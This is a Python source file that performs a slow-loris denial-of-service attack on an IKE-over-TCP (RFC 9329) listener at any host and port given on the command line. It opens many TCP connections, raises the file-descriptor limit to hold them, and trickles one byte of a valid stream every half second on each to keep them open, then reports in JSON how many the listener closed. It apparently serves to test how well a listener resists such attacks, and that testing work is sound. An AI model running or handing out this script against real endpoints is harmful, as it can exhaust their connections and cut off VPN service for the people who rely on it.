"""A slow-loris against an RFC 9329 listener: open N connections, trickle bytes on each.

``python trickle.py HOST PORT N SECONDS``: opens N TCP connections as fast as the
listener takes them, then every 0.5 s sends one more byte of a valid stream (the
"IKETCP" prefix, then a frame header announcing a large IKE message) on each one
still open. Prints one JSON line: how many connected, how many the listener closed.
"""

from __future__ import annotations

import json
import resource
import socket
import sys
import time

STREAM = b"IKETCP" + b"\xff\xf0" + b"\x00" * 4 + b"x" * 1000


def main() -> int:
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(
        sys.argv[4])
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 64), hard))
    conns: list[tuple[socket.socket, int]] = []
    failed = 0
    for _ in range(count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(2.0)
        try:
            sock.connect((host, port))
        except OSError:
            failed += 1
            sock.close()
            continue
        sock.setblocking(False)
        conns.append((sock, 0))
    connected = len(conns)
    closed = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and conns:
        still: list[tuple[socket.socket, int]] = []
        for sock, sent in conns:
            try:
                if sock.recv(1, socket.MSG_PEEK) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
                sock.close()
                continue
            try:
                sock.send(STREAM[sent % len(STREAM):sent % len(STREAM) + 1])
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
                sock.close()
                continue
            still.append((sock, sent + 1))
        conns = still
        time.sleep(0.5)
    print(json.dumps({"connected": connected, "connect_failed": failed, "closed": closed,
                      "open_at_end": len(conns)}))
    for sock, _ in conns:
        sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
